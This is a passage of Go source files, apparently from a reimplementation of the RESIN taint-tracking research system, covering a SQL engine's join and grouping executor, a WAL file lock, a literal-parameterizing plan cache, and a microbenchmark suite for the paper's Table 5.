	// Copy the entries slice headers (O(1)); contents are immutable for
	// this snapshot. Bucket lists of live ordered indexes are NOT safe to
	// hold across the unlock (writers binary-insert in place), which is
	// why the hash join builds its own transient map from the entries —
	// keyed by the same indexKey canonicalization the buckets use.
	lents := lt.entries
	var rents []*rowEntry
	if s.Join != nil {
		rents = rt.entries
	}
	buildLeft := false
	if s.Join != nil && !s.ForceLoop {
		buildLeft = chooseBuildSide(len(lents), len(rents), s.Join.Type)
	}
	unlock()

	// Lock-free phase. Resolve visibility once per side, in scan order.
	visible := func(ents []*rowEntry) [][]value {
		rows := make([][]value, 0, len(ents))
		for _, en := range ents {
			if v := en.visible(snap); v != nil {
				rows = append(rows, v.vals)
			}
		}
		return rows
	}
	lrows := visible(lents)

	var rows [][]value // combined rows entering WHERE
	if s.Join == nil {
		rows = lrows
	} else {
		rrows := visible(rents)
		width := js.width()
		emit := func(lr, rr []value) {
			combined := make([]value, 0, width)
			combined = append(combined, lr...)
			if rr != nil {
				combined = append(combined, rr...)
			} else {
				for range rt.cols {
					combined = append(combined, nullValue())
				}
			}
			rows = append(rows, combined)
		}
		left := s.Join.Type == "LEFT"
		switch {
		case s.ForceLoop:
			// Nested loop: the oracle. Emits (li, ri) pairs in scan order
			// using the WHERE evaluator's own equality.
			for _, lr := range lrows {
				matched := false
				for _, rr := range rrows {
					lv, rv := lr[lon], rr[ron]
					if !lv.null && !rv.null && valueCompare(lv, rv) == 0 {
						emit(lr, rr)
						matched = true
					}
				}
				if left && !matched {
					emit(lr, nil)
				}
			}
		case buildLeft:
			// Hash join, build = left (INNER only). Probing with right
			// yields ri-major pairs; re-sort to the oracle's (li, ri)
			// order. Indices, not values, so the sort is exact.
			build := make(map[string][]int, len(lrows))
			for i, lr := range lrows {
				if v := lr[lon]; !v.null {
					k := indexKey(v)
					build[k] = append(build[k], i)
				}
			}
			type pair struct{ li, ri int }
			var pairs []pair
			for ri, rr := range rrows {
				if v := rr[ron]; !v.null {
					for _, li := range build[indexKey(v)] {
						pairs = append(pairs, pair{li, ri})
					}
				}
			}
			sort.Slice(pairs, func(i, j int) bool {
				if pairs[i].li != pairs[j].li {
					return pairs[i].li < pairs[j].li
				}
				return pairs[i].ri < pairs[j].ri
			})
			for _, p := range pairs {
				emit(lrows[p.li], rrows[p.ri])
			}
		default:
			// Hash join, build = right. Probing with left yields (li, ri)
			// pairs in oracle order directly; LEFT JOIN emits unmatched
			// left rows in place.
			build := make(map[string][]int, len(rrows))
			for i, rr := range rrows {
				if v := rr[ron]; !v.null {
					k := indexKey(v)
					build[k] = append(build[k], i)
				}
			}
			for _, lr := range lrows {
				matched := false
				if v := lr[lon]; !v.null {
					for _, ri := range build[indexKey(v)] {
						emit(lr, rrows[ri])
						matched = true
					}
				}
				if left && !matched {
					emit(lr, nil)
				}
			}
		}
	}

	// WHERE filter over combined rows.
	filtered := rows[:0:0]
	for _, row := range rows {
		ok, err := evalBool(s.Where, sc, row)
		if err != nil {
			return nil, err
		}
		if ok {
			filtered = append(filtered, row)
		}
	}

	outCols := make([]string, len(items))
	for i, it := range items {
		outCols[i] = it.name
	}
	out := &rawResult{cols: outCols}

	if !grouped {
		if orderCI >= 0 {
			sortCalls.Add(1)
			sort.SliceStable(filtered, func(i, j int) bool {
				if s.Desc {
					return valueLess(filtered[j][orderCI], filtered[i][orderCI])
				}
				return valueLess(filtered[i][orderCI], filtered[j][orderCI])
			})
		}
		if s.Limit >= 0 && len(filtered) > s.Limit {
			filtered = filtered[:s.Limit]
		}
		for _, row := range filtered {
			r := make([]value, len(items))
			for i, it := range items {
				r[i] = row[it.ci]
			}
			out.rows = append(out.rows, r)
		}
		return out, nil
	}

	// Grouping: key rows by the indexKey rendering of their GROUP BY
	// columns (the same coercion equality uses: int 1 and text '1'
	// group together), groups in first-seen row order.
	type group struct {
		first []value // representative row: group columns are equal within a group
		aggs  []aggState
	}
	var groups []*group
	byKey := map[string]*group{}
	var kb strings.Builder
	for _, row := range filtered {
		kb.Reset()
		for _, ci := range groupCIs {
			kb.WriteString(indexKey(row[ci]))
			kb.WriteByte(0)
		}
		key := kb.String()
		g := byKey[key]
		if g == nil {
			g = &group{first: row, aggs: make([]aggState, len(items))}
			byKey[key] = g
			groups = append(groups, g)
		}
		for i, it := range items {
			switch {
			case it.agg == "":
				// group column: value carried by first
			case it.ci < 0: // COUNT(*)
				g.aggs[i].count++
			default:
				g.aggs[i].observe(it.agg, row[it.ci])
			}
		}
	}
	// A whole-input aggregate (no GROUP BY columns) always yields one
	// row, even over empty input: COUNT(*) of nothing is 0, SUM is NULL.
	if len(s.GroupBy) == 0 && len(groups) == 0 {
		groups = append(groups, &group{aggs: make([]aggState, len(items))})
	}

	if orderCI >= 0 {
		sortCalls.Add(1)
		sort.SliceStable(groups, func(i, j int) bool {
			if s.Desc {
				return valueLess(groups[j].first[orderCI], groups[i].first[orderCI])
			}
			return valueLess(groups[i].first[orderCI], groups[j].first[orderCI])
		})
	}
	if s.Limit >= 0 && len(groups) > s.Limit {
		groups = groups[:s.Limit]
	}
	for _, g := range groups {
		r := make([]value, len(items))
		for i, it := range items {
			switch {
			case it.agg == "":
				r[i] = g.first[it.ci]
			case it.ci < 0:
				r[i] = intValue(g.aggs[i].count)
			default:
				r[i] = g.aggs[i].result(it.agg)
			}
		}
		out.rows = append(out.rows, r)
	}
	return out, nil
}
