//go:build unix

package sqldb

import (
	"os"
	"syscall"
)

// lockWALFile takes a non-blocking exclusive advisory lock on the log
// file, enforcing the single-writer rule across processes (and across
// DB handles in one process). Released by closing the file.
func lockWALFile(f *os.File) error {
	return syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB)
}
