package sqldb

import (
	"fmt"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"resin/internal/core"
)

// The plan cache: prepared statements without a prepare API.
//
// Applications in this codebase (and the PHP applications the paper
// interposes on) issue the same query *shapes* over and over with
// different literal values — HotCRP's per-row SELECTs, the forum's
// per-message lookups. The seed engine re-tokenized and re-parsed every
// one. The plan cache instead keys on the canonical token stream with
// string and number literals replaced by parameter slots, parses that
// parameterized stream once into a template AST, and on every later hit
// binds the current literal tokens into a fresh statement — no parser
// involved (ParseCount pins this down in tests).
//
// Literal values still flow through per execution, carrying their
// per-character policies, so taint tracking and policy persistence are
// unaffected by caching: only the *structure* is reused, and structure
// is exactly the part the injection assertions require to be untrusted-
// free.
//
// Schema-derived state (which policy columns exist for the statement's
// table) is cached per plan keyed on the engine's schema generation;
// any CREATE/DROP of a table or index stamps a fresh generation, so
// plans recompile their schema conclusions instead of reusing stale
// ones (see docs/SQL.md for the invalidation rules).

// planCacheCap bounds the number of cached templates. Applications use a
// fixed set of query shapes, so the cap exists only to keep adversarial
// or generated workloads from growing the table without bound; at cap
// the cache is flushed wholesale (the established idiom here: churn
// costs a periodic re-warm, never a permanently disabled cache).
const planCacheCap = 1024

// planModeStandard and planModeAutoSanitize prefix cache keys so the two
// tokenizers (Lex and LexAutoSanitize) never share a template: the same
// raw bytes can tokenize differently under the auto-sanitizing lexer.
const (
	planModeStandard     = 'n'
	planModeAutoSanitize = 'a'
)

// PlanCacheStats reports plan cache effectiveness. Invalidations counts
// schema-generation misses: executions that found a cached template but
// had to recompute its schema-derived state because a CREATE/DROP ran
// since it was compiled.
type PlanCacheStats struct {
	Hits, Misses, Invalidations uint64
}

// cachedPlan is one compiled query template.
type cachedPlan struct {
	tmpl  Statement // parameterized AST; shared, never mutated
	nlits int

	// Schema-derived compilation state, guarded by mu: pcols is the
	// policy-column set of the statement's table as of generation gen.
	mu    sync.Mutex
	gen   uint64
	pcols map[string]bool
}

// planCache maps parameterized token-stream keys to compiled templates.
// The map is read-mostly (every query looks up, only compiles insert),
// so lookups take the read lock and concurrent cached SELECTs stay
// parallel end to end — the engine's own read path runs under RLock too.
type planCache struct {
	mu sync.RWMutex
	m  map[string]*cachedPlan

	hits          atomic.Uint64
	misses        atomic.Uint64
	invalidations atomic.Uint64
}

func newPlanCache() *planCache {
	return &planCache{m: make(map[string]*cachedPlan, 64)}
}

func (c *planCache) stats() PlanCacheStats {
	return PlanCacheStats{
		Hits:          c.hits.Load(),
		Misses:        c.misses.Load(),
		Invalidations: c.invalidations.Load(),
	}
}

// reset empties the cache (tests and benchmarks).
func (c *planCache) reset() {
	c.mu.Lock()
	c.m = make(map[string]*cachedPlan, 64)
	c.mu.Unlock()
}

// literalSlots classifies which tokens of a stream are bindable literal
// slots. It is the single source of truth for planKey and parameterize:
// both derive from it, so slot numbering in templates can never drift
// from the key's '?' positions. String and number literals are slots,
// and so are binding placeholders (`?` and `:name`) — a spliced query
// and its prepared form therefore share one cache key and one template.
// Inline LIMIT counts are the exception: the parser folds those into
// the plan itself, so they cannot be bound per execution; distinct
// inline limits simply get distinct plans. A `LIMIT ?` placeholder *is*
// a slot (the template carries Select.LimitExpr and binding resolves
// it), so prepared statements vary the limit without growing the cache.
func literalSlots(toks []Token) []bool {
	slots := make([]bool, len(toks))
	prevLimit := false
	for i, t := range toks {
		slots[i] = t.Type == TokString || t.Type == TokPlaceholder || (t.Type == TokNumber && !prevLimit)
		prevLimit = t.Type == TokKeyword && t.Keyword() == "LIMIT"
	}
	return slots
}

// countPlaceholders returns the number of binding ordinals in a token
// stream — the arguments an execution must supply. Repeated `:name`
// placeholders share one ordinal, so the count is distinct ordinals,
// not placeholder tokens.
func countPlaceholders(toks []Token) int {
	n := 0
	for _, t := range toks {
		if t.Type == TokPlaceholder && t.ParamIdx+1 > n {
			n = t.ParamIdx + 1
		}
	}
	return n
}

// placeholderNames returns the name of each binding ordinal ("" for the
// positional `?` form), indexed by ordinal.
func placeholderNames(toks []Token) []string {
	out := make([]string, countPlaceholders(toks))
	for _, t := range toks {
		if t.Type == TokPlaceholder {
			out[t.ParamIdx] = t.Name
		}
	}
	return out
}

// planKey renders the canonical parameterized form of a token stream:
// keywords upper-cased, identifiers lower-cased, literal slots replaced
// by '?' (their tokens collected into lits), tokens separated by NUL.
func planKey(toks []Token, mode byte) (key string, lits []Token) {
	slots := literalSlots(toks)
	var b strings.Builder
	b.Grow(len(toks) * 8)
	b.WriteByte(mode)
	for i, t := range toks {
		if t.Type == TokEOF {
			break
		}
		b.WriteByte(0)
		switch {
		case slots[i]:
			b.WriteByte('?')
			lits = append(lits, t)
		case t.Type == TokKeyword:
			b.WriteString(t.Keyword())
		case t.Type == TokIdent:
			b.WriteString(strings.ToLower(t.Text))
		default:
			b.WriteString(t.Text)
		}
	}
	return b.String(), lits
}

// parameterize rewrites the literal slots of a stream into TokParam
// tokens numbered in stream order (the same order planKey collects
// lits, by construction from the shared literalSlots classification).
func parameterize(toks []Token) []Token {
	slots := literalSlots(toks)
	out := make([]Token, len(toks))
	idx := 0
	for i, t := range toks {
		if slots[i] {
			out[i] = Token{Type: TokParam, Text: "?", Start: t.Start, End: t.End, ParamIdx: idx}
			idx++
		} else {
			out[i] = t
		}
	}
	return out
}

// litExpr converts a literal token into its AST node, exactly as
// parsePrimary would have: the tracked Value carries the literal's
// per-character policies into the statement.
func litExpr(t Token) (Expr, error) {
	switch t.Type {
	case TokString:
		return &StringLit{Val: t.Value}, nil
	case TokNumber:
		v, err := strconv.ParseInt(t.Text, 10, 64)
		if err != nil {
			return nil, &ParseError{Offset: t.Start, Msg: fmt.Sprintf("bad number %q", t.Text)}
		}
		return &IntLit{Val: v, Src: t.Value}, nil
	default:
		return nil, fmt.Errorf("sqldb: plan literal slot bound to %s token", t.Type)
	}
}

// literalBinds converts the literal-slot tokens of a stream into the
// per-slot expressions a template is bound with: inline string/number
// literals convert as parsePrimary would, and placeholder slots take
// the bound-argument expression at their binding ordinal (so every
// repetition of one `:name` binds the same argument). The caller has
// already checked arity (binding ordinal count == len(bound)).
func literalBinds(lits []Token, bound []Expr) ([]Expr, error) {
	binds := make([]Expr, len(lits))
	for i, t := range lits {
		if t.Type == TokPlaceholder {
			if t.ParamIdx >= len(bound) {
				return nil, fmt.Errorf("sqldb: placeholder ?%d has no bound argument", t.ParamIdx)
			}
			binds[i] = bound[t.ParamIdx]
			continue
		}
		ex, err := litExpr(t)
		if err != nil {
			return nil, err
		}
		binds[i] = ex
	}
	return binds, nil
}

// bindExpr clones an expression template, substituting Param slots with
// the per-slot bound expressions and Placeholder slots (present only on
// the direct-parse fallback path, where the statement never went through
// parameterize) with the bound-argument expressions. Substitution-free
// subtrees are shared — the engine never mutates statements.
func bindExpr(ex Expr, binds, ph []Expr) (Expr, error) {
	switch v := ex.(type) {
	case nil:
		return nil, nil
	case *Param:
		if v.Idx < 0 || v.Idx >= len(binds) {
			return nil, fmt.Errorf("sqldb: plan parameter ?%d out of range", v.Idx)
		}
		return binds[v.Idx], nil
	case *Placeholder:
		if v.Ord < 0 || v.Ord >= len(ph) {
			return nil, fmt.Errorf("sqldb: placeholder ?%d has no bound argument", v.Ord)
		}
		return ph[v.Ord], nil
	case *Binary:
		l, err := bindExpr(v.L, binds, ph)
		if err != nil {
			return nil, err
		}
		r, err := bindExpr(v.R, binds, ph)
		if err != nil {
			return nil, err
		}
		if l == v.L && r == v.R {
			return v, nil
		}
		return &Binary{Op: v.Op, L: l, R: r}, nil
	case *Unary:
		x, err := bindExpr(v.X, binds, ph)
		if err != nil {
			return nil, err
		}
		if x == v.X {
			return v, nil
		}
		return &Unary{Op: v.Op, X: x}, nil
	default:
		return ex, nil
	}
}

// bindStatement instantiates a statement template: binds fills Param
// slots (the plan-cache path), ph fills Placeholder slots by ordinal
// (the direct-parse path, where `?` tokens survived into the AST).
func bindStatement(tmpl Statement, binds, ph []Expr) (Statement, error) {
	switch s := tmpl.(type) {
	case *Select:
		w, err := bindExpr(s.Where, binds, ph)
		if err != nil {
			return nil, err
		}
		le, err := bindExpr(s.LimitExpr, binds, ph)
		if err != nil {
			return nil, err
		}
		if w == s.Where && le == s.LimitExpr {
			return s, nil
		}
		out := *s
		out.Where = w
		if le != s.LimitExpr {
			n, err := limitValue(le)
			if err != nil {
				return nil, err
			}
			out.Limit, out.LimitExpr = n, nil
		}
		return &out, nil
	case *Insert:
		rows := make([][]Expr, len(s.Rows))
		for i, row := range s.Rows {
			out := make([]Expr, len(row))
			for j, ex := range row {
				b, err := bindExpr(ex, binds, ph)
				if err != nil {
					return nil, err
				}
				out[j] = b
			}
			rows[i] = out
		}
		return &Insert{Table: s.Table, Columns: s.Columns, Rows: rows}, nil
	case *Update:
		set := make([]Assignment, len(s.Set))
		for i, a := range s.Set {
			v, err := bindExpr(a.Value, binds, ph)
			if err != nil {
				return nil, err
			}
			set[i] = Assignment{Column: a.Column, Value: v}
		}
		w, err := bindExpr(s.Where, binds, ph)
		if err != nil {
			return nil, err
		}
		return &Update{Table: s.Table, Set: set, Where: w}, nil
	case *Delete:
		w, err := bindExpr(s.Where, binds, ph)
		if err != nil {
			return nil, err
		}
		if w == s.Where {
			return s, nil
		}
		return &Delete{Table: s.Table, Where: w}, nil
	default:
		// CREATE/DROP TABLE and CREATE/DROP INDEX carry no literal
		// slots; the template is the statement.
		return tmpl, nil
	}
}

// limitValue resolves a bound LIMIT expression: the argument must be a
// non-negative integer (a string or NULL cannot cap a row count).
func limitValue(e Expr) (int, error) {
	lit, ok := e.(*IntLit)
	if !ok {
		return 0, fmt.Errorf("sqldb: LIMIT must bind an integer, got %s", e.SQL())
	}
	if lit.Val < 0 {
		return 0, fmt.Errorf("sqldb: LIMIT must bind a non-negative integer, got %d", lit.Val)
	}
	return int(lit.Val), nil
}

// bindArity checks that a token stream's placeholder count matches the
// bound-argument count. Queries without placeholders and without bound
// arguments (the historical zero-arg form) pass trivially.
func bindArity(toks []Token, nbound int) error {
	if nph := countPlaceholders(toks); nph != nbound {
		return fmt.Errorf("sqldb: statement has %d placeholder(s) but %d bound argument(s)", nph, nbound)
	}
	return nil
}

// compile resolves a token stream to its cached plan template without
// binding, compiling and installing the template on a miss. It is the
// shared front half of prepare and of Stmt preparation: both paths
// therefore share templates (a spliced query shape and its prepared
// form have identical keys). The returned lits are the current literal
// slot tokens in slot order; cached reports whether the template came
// from the cache. Callers count hits/misses — a hit is only a hit once
// binding has actually succeeded.
func (c *planCache) compile(toks []Token, mode byte) (plan *cachedPlan, lits []Token, cached bool, err error) {
	key, lits := planKey(toks, mode)

	c.mu.RLock()
	plan = c.m[key]
	c.mu.RUnlock()
	if plan != nil && plan.nlits == len(lits) {
		return plan, lits, true, nil
	}

	tmpl, err := ParseTokens(parameterize(toks))
	if err != nil {
		return nil, lits, false, err
	}
	plan = &cachedPlan{tmpl: tmpl, nlits: len(lits)}
	c.mu.Lock()
	if len(c.m) >= planCacheCap {
		c.m = make(map[string]*cachedPlan, 64)
	}
	if existing, ok := c.m[key]; ok && existing.nlits == len(lits) {
		plan = existing // racing compile: keep the installed one
	} else {
		c.m[key] = plan
	}
	c.mu.Unlock()
	return plan, lits, false, nil
}

// parseAndBind parses an original (non-parameterized) token stream and
// binds its `?` placeholders by ordinal — the shared direct-parse path
// used by the plan cache's fallback and by View.Query.
func parseAndBind(toks []Token, bound []Expr) (Statement, error) {
	if err := bindArity(toks, len(bound)); err != nil {
		return nil, err
	}
	stmt, err := ParseTokens(toks)
	if err != nil {
		return nil, err
	}
	return bindStatement(stmt, nil, bound)
}

// prepare resolves a token stream plus bound-argument expressions to an
// executable statement, through the cache when possible. On a hit the
// parser is never invoked; on a miss the parameterized stream is parsed
// once and the template cached. Any template trouble (a shape the
// binder cannot reconstruct, a parse error against the parameterized
// stream) falls back to parsing the original tokens directly, so the
// cache can only ever add performance, never change behavior —
// including error messages, which come from the original token stream.
func (c *planCache) prepare(toks []Token, mode byte, bound []Expr) (Statement, *cachedPlan, error) {
	if err := bindArity(toks, len(bound)); err != nil {
		return nil, nil, err
	}
	plan, lits, cached, cerr := c.compile(toks, mode)
	if cerr == nil {
		if binds, err := literalBinds(lits, bound); err == nil {
			if stmt, err := bindStatement(plan.tmpl, binds, nil); err == nil {
				if cached {
					c.hits.Add(1)
				} else {
					c.misses.Add(1)
				}
				return stmt, plan, nil
			}
		}
		// Bind failure: fall through to a fresh parse of the original
		// tokens (and leave the entry; a transient literal problem like
		// an overflowing number must not evict a good template).
	}
	c.misses.Add(1)
	// Report errors against the original stream so messages match the
	// uncached parser exactly; `?` tokens become Placeholder nodes here,
	// bound by ordinal.
	stmt, err := parseAndBind(toks, bound)
	return stmt, nil, err
}

// prepareQuery lexes q with the requested tokenizer and resolves it
// through the cache, with the same error semantics as Parse /
// ParseAutoSanitized. bound carries the `?`-placeholder argument
// expressions (nil for the zero-arg form).
func (c *planCache) prepareQuery(q core.String, auto bool, bound []Expr) (Statement, *cachedPlan, error) {
	if auto {
		toks, err := LexAutoSanitize(q)
		if err != nil {
			return nil, nil, err
		}
		stmt, plan, err := c.prepare(toks, planModeAutoSanitize, bound)
		if err != nil {
			return nil, nil, fmt.Errorf("sqldb: auto-sanitized parse: %w", err)
		}
		return stmt, plan, nil
	}
	toks, err := Lex(q)
	if err != nil {
		return nil, nil, err
	}
	return c.prepare(toks, planModeStandard, bound)
}

// pcolsFor returns the cached policy-column set of the plan's tables
// for engine's current schema, recompiling it when the schema
// generation moved (the plan-cache invalidation rule: any CREATE/DROP
// of a table or index invalidates every plan's schema-derived state —
// which also covers both sides of a join, since every DDL bumps the
// generation).
func (c *planCache) pcolsFor(plan *cachedPlan, engine *Engine, tables []string) map[string]bool {
	gen := engine.SchemaGen()
	plan.mu.Lock()
	defer plan.mu.Unlock()
	if plan.gen != gen || plan.pcols == nil {
		if plan.gen != 0 {
			c.invalidations.Add(1)
		}
		plan.pcols = policyColSet(engine, tables)
		if plan.pcols == nil {
			plan.pcols = map[string]bool{}
		}
		plan.gen = gen
	}
	return plan.pcols
}
