// Package microbench implements the Table 5 microbenchmark of the RESIN
// paper: the cost of individual operations under three configurations —
// the unmodified interpreter (tracking off), the RESIN runtime with no
// policy attached, and the RESIN runtime with an empty policy attached.
//
// The operations are the paper's: variable assignment, function call,
// string concatenation, integer addition, file open / read 1KB / write
// 1KB, and SQL SELECT / INSERT / DELETE over 10 columns.
package microbench

import (
	"fmt"
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sqldb"
	"resin/internal/vfs"
)

// Mode selects the interpreter configuration of Table 5.
type Mode int

// The three configurations.
const (
	Unmodified  Mode = iota // tracking disabled — the baseline interpreter
	NoPolicy                // tracking enabled, data carries no policies
	EmptyPolicy             // tracking enabled, data carries an empty policy
)

func (m Mode) String() string {
	switch m {
	case Unmodified:
		return "unmodified"
	case NoPolicy:
		return "resin-no-policy"
	default:
		return "resin-empty-policy"
	}
}

// Empty is the paper's "empty policy": a policy object with no fields
// whose checks always pass.
type Empty struct{}

// ExportCheck always passes.
func (p *Empty) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("microbench.Empty", &Empty{})
}

// Sinks defeat dead-code elimination.
var (
	sinkString  string
	sinkTracked core.String
	sinkInt     int64
	sinkTInt    core.Int
)

//go:noinline
func callPlain(s string) string { return s }

//go:noinline
func callTracked(s core.String) core.String { return s }

// Op is one Table 5 row.
type Op struct {
	Name string
	// Bench runs the operation b.N times under the given mode.
	Bench func(b *testing.B, mode Mode)
}

// sample returns the operand string for a mode (tainted when the mode
// carries the empty policy).
//
// Each operand deliberately gets its own fresh Empty instance: Table 5
// measures the tracking machinery's per-operation cost, and operands
// sharing one policy object would let the runtime's pointer-identity
// fast paths collapse the very merges and span boundaries the table
// quantifies (two operands with the same interned set coalesce into
// one span on concat and short-circuit on merge), silently changing
// the measured workload relative to the paper and the seed. The
// interned fast paths are measured on their own terms by the
// BenchmarkAblation_* suite in the repository root.
func sample(mode Mode, raw string) core.String {
	s := core.NewString(raw)
	if mode == EmptyPolicy {
		s = s.WithPolicy(&Empty{})
	}
	return s
}

// Ops returns the Table 5 operations in the paper's order.
func Ops() []Op {
	return []Op{
		{Name: "Assign variable", Bench: benchAssign},
		{Name: "Function call", Bench: benchCall},
		{Name: "String concat", Bench: benchConcat},
		{Name: "Integer addition", Bench: benchIntAdd},
		{Name: "File open", Bench: benchFileOpen},
		{Name: "File read, 1KB", Bench: benchFileRead},
		{Name: "File write, 1KB", Bench: benchFileWrite},
		{Name: "SQL SELECT", Bench: benchSQLSelect},
		{Name: "SQL INSERT", Bench: benchSQLInsert},
		{Name: "SQL DELETE", Bench: benchSQLDelete},
	}
}

func benchAssign(b *testing.B, mode Mode) {
	if mode == Unmodified {
		src := "some value in a variable"
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			sinkString = src
		}
		return
	}
	src := sample(mode, "some value in a variable")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sinkTracked = src
	}
}

func benchCall(b *testing.B, mode Mode) {
	if mode == Unmodified {
		src := "argument"
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			sinkString = callPlain(src)
		}
		return
	}
	src := sample(mode, "argument")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sinkTracked = callTracked(src)
	}
}

func benchConcat(b *testing.B, mode Mode) {
	if mode == Unmodified {
		l, r := "left operand!", "right operand"
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			sinkString = l + r
		}
		return
	}
	l := sample(mode, "left operand!")
	r := sample(mode, "right operand")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sinkTracked = core.Concat(l, r)
	}
}

func benchIntAdd(b *testing.B, mode Mode) {
	if mode == Unmodified {
		x, y := int64(12345), int64(678)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			sinkInt = x + y
		}
		return
	}
	x := core.NewInt(12345)
	y := core.NewInt(678)
	if mode == EmptyPolicy {
		// Distinct instances, as in the seed: x+y must exercise a real
		// two-set merge, not the same-set fast path (see sample).
		x = x.WithPolicy(&Empty{})
		y = y.WithPolicy(&Empty{})
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		sinkTInt, err = x.Add(y)
		if err != nil {
			b.Fatal(err)
		}
	}
}

// fileSetup builds a filesystem with a 1KB file appropriate to the mode.
func fileSetup(b *testing.B, mode Mode) (*vfs.FS, core.String) {
	rt := core.NewRuntime()
	if mode == Unmodified {
		rt = core.NewUntrackedRuntime()
	}
	fs := vfs.New(rt)
	content := sample(mode, strings.Repeat("x", 1024))
	if err := fs.WriteFile("/bench.dat", content, nil); err != nil {
		b.Fatal(err)
	}
	return fs, content
}

func benchFileOpen(b *testing.B, mode Mode) {
	fs, _ := fileSetup(b, mode)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := fs.Stat("/bench.dat"); err != nil {
			b.Fatal(err)
		}
		if _, err := fs.PersistentFilter("/bench.dat"); err != nil {
			b.Fatal(err)
		}
	}
}

func benchFileRead(b *testing.B, mode Mode) {
	fs, _ := fileSetup(b, mode)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		got, err := fs.ReadFile("/bench.dat", nil)
		if err != nil {
			b.Fatal(err)
		}
		sinkTracked = got
	}
}

func benchFileWrite(b *testing.B, mode Mode) {
	fs, content := fileSetup(b, mode)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := fs.WriteFile("/bench.dat", content, nil); err != nil {
			b.Fatal(err)
		}
	}
}

// sqlSetup builds a database with a 10-column table (matching the paper:
// "the INSERT operation inserts 10 cells, each into a different column,
// and the SELECT operation reads 10 cells").
func sqlSetup(b *testing.B, mode Mode) (*sqldb.DB, []core.String) {
	rt := core.NewRuntime()
	if mode == Unmodified {
		rt = core.NewUntrackedRuntime()
	}
	db := sqldb.Open(rt)
	cols := make([]string, 10)
	for i := range cols {
		cols[i] = fmt.Sprintf("c%d TEXT", i)
	}
	db.MustExec("CREATE TABLE bench (" + strings.Join(cols, ", ") + ")")
	vals := make([]core.String, 10)
	for i := range vals {
		vals[i] = sample(mode, fmt.Sprintf("value-%d", i))
	}
	return db, vals
}

func insertQuery(row int, vals []core.String) core.String {
	var qb core.Builder
	qb.AppendRaw("INSERT INTO bench (c0, c1, c2, c3, c4, c5, c6, c7, c8, c9) VALUES (")
	for i, v := range vals {
		if i > 0 {
			qb.AppendRaw(", ")
		}
		if i == 0 {
			qb.AppendRaw(fmt.Sprintf("'key-%d'", row))
			continue
		}
		qb.AppendRaw("'")
		qb.Append(v)
		qb.AppendRaw("'")
	}
	qb.AppendRaw(")")
	return qb.String()
}

func benchSQLInsert(b *testing.B, mode Mode) {
	db, vals := sqlSetup(b, mode)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := db.Query(insertQuery(i, vals)); err != nil {
			b.Fatal(err)
		}
	}
}

func benchSQLSelect(b *testing.B, mode Mode) {
	db, vals := sqlSetup(b, mode)
	for i := 0; i < 100; i++ {
		if _, err := db.Query(insertQuery(i, vals)); err != nil {
			b.Fatal(err)
		}
	}
	q := core.NewString("SELECT c0, c1, c2, c3, c4, c5, c6, c7, c8, c9 FROM bench WHERE c0 = 'key-50'")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := db.Query(q)
		if err != nil {
			b.Fatal(err)
		}
		if res.Len() != 1 {
			b.Fatalf("rows = %d", res.Len())
		}
	}
}

func benchSQLDelete(b *testing.B, mode Mode) {
	db, vals := sqlSetup(b, mode)
	// Keep the table at a steady ~100 rows: each iteration re-inserts the
	// victim row with the timer stopped, then times only the DELETE.
	for i := 0; i < 100; i++ {
		if _, err := db.Query(insertQuery(i, vals)); err != nil {
			b.Fatal(err)
		}
	}
	victim := insertQuery(100, vals)
	del := core.NewString("DELETE FROM bench WHERE c0 = 'key-100'")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		if _, err := db.Query(victim); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		if _, err := db.Query(del); err != nil {
			b.Fatal(err)
		}
	}
}

// Row is one measured Table 5 row.
type Row struct {
	Op string
	// NsPerOp holds the measured ns/op per mode, indexed by Mode.
	NsPerOp [3]float64
}

// Overhead returns the percentage overhead of the given mode relative to
// the unmodified baseline.
func (r Row) Overhead(m Mode) float64 {
	base := r.NsPerOp[Unmodified]
	if base == 0 {
		return 0
	}
	return (r.NsPerOp[m] - base) / base * 100
}

// RunAll measures every operation under every mode using
// testing.Benchmark, returning the rows in the paper's order.
func RunAll() []Row {
	var rows []Row
	for _, op := range Ops() {
		row := Row{Op: op.Name}
		for _, mode := range []Mode{Unmodified, NoPolicy, EmptyPolicy} {
			m := mode
			res := testing.Benchmark(func(b *testing.B) { op.Bench(b, m) })
			// Fractional ns/op: sub-nanosecond operations (assignment)
			// truncate to zero under the integer NsPerOp.
			row.NsPerOp[mode] = float64(res.T.Nanoseconds()) / float64(res.N)
		}
		rows = append(rows, row)
	}
	return rows
}

// Render renders measured rows as the Table 5 layout.
func Render(rows []Row) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Table 5 — microbenchmark: ns/op under three configurations\n")
	fmt.Fprintf(&b, "(absolute numbers differ from the paper's 2009 hardware; compare the shape)\n\n")
	fmt.Fprintf(&b, "%-18s %14s %18s %11s %20s %11s\n",
		"Operation", "Unmodified", "RESIN no policy", "(overhead)", "RESIN empty policy", "(overhead)")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-18s %12.1fns %16.1fns %10.0f%% %18.1fns %10.0f%%\n",
			r.Op, r.NsPerOp[Unmodified], r.NsPerOp[NoPolicy], r.Overhead(NoPolicy),
			r.NsPerOp[EmptyPolicy], r.Overhead(EmptyPolicy))
	}
	return b.String()
}
