package microbench

import (
	"strings"
	"testing"
)

// The microbenchmark operations must run correctly in every mode — a
// broken operation would silently benchmark garbage.
func TestAllOpsRunInAllModes(t *testing.T) {
	for _, op := range Ops() {
